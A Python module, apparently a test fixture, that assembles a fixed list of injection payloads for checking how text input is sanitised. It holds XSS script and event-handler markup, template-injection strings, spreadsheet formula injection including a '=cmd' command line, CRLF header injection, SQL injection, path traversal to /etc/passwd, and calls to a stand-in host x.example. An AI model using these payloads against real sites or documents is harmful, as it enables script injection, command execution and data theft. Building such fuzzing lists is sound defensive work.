"""What people try to smuggle through a text: scripts, markup, templates, formulas, headers. 200 and more, the same each
time."""
import functools

SCRIPTS = ["alert(1)", "eval(name)", "alert`1`", "fetch('//x.example')", "document.cookie"]
MARKUP = ["<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>", "<img src=x onerror={}>",
          "<img/src/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "\"><script>{}</script>",
          "'><script>{}</script>", "\" onmouseover=\"{}", "' onfocus='{}' autofocus='", "` onmouseover=`{}",
          "<a href=\"javascript:{}\">x</a>", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
          "vbscript:{}", "<iframe src=\"javascript:{}\"></iframe>", "<body onload={}>", "<details open ontoggle={}>",
          "<math><mtext></p><style><img src onerror={}>", "<!--><script>{}</script>", "<![CDATA[<script>{}</script>]]>",
          "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
          "</textarea><script>{}</script>", "</title><script>{}</script>", "<style>@import '//x.example';</style>{}",
          "<base href=//x.example>{}", "<form action=//x.example>{}<input>", "<meta http-equiv=refresh content=0;url=//x.example>{}",
          "<object data=\"javascript:{}\"></object>", "<x style=\"background:url(//x.example)\">{}"]
TEMPLATES = ["{{7*7}}", "{{{here}}}", "{{&name}}", "{{#results}}x{{/results}}", "{{>_top}}", "{{=<% %>=}}", "<% here %>", "${7*7}",
             "#{7*7}", "{%if x%}", "{n}", "{place}", "{0}", "[[shell.skip]]", "[[nothing]]", "{{", "}}", "{{!", "%s%n", "@import"]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\")", "\t=1+1", "\r=1+1",
            "=IMPORTXML(\"//x.example\")", "\"=1+1\""]
REST = ["a\r\nSet-Cookie: x=y", "a\r\nLocation: //x.example", "a\nBEGIN:VEVENT\nSUMMARY:x", "a\\nEND:VCALENDAR", "\x00", "\x1b[31m",
        "\u202etxt.exe", "\ufeff", "\u2028x", "'; DROP TABLE record; --", "\" OR 1=1", "../../etc/passwd", "//x.example", "\\\\x.example",
        "http://x.example/\"onclick=alert(1)", "tel:<script>", "mailto:x@y?bcc=z", "x@y.z?cc=a@b.c", "https://x@y.example/<b>", "xn--a",
        "🏳️‍🌈" * 20, "a" * 2000, "<" * 200, "&" * 200, "\"'`<>&;/\\"]


@functools.lru_cache(maxsize=1)
def payloads():
    return [form.format(script) for form in MARKUP for script in SCRIPTS] + TEMPLATES + FORMULAS + REST
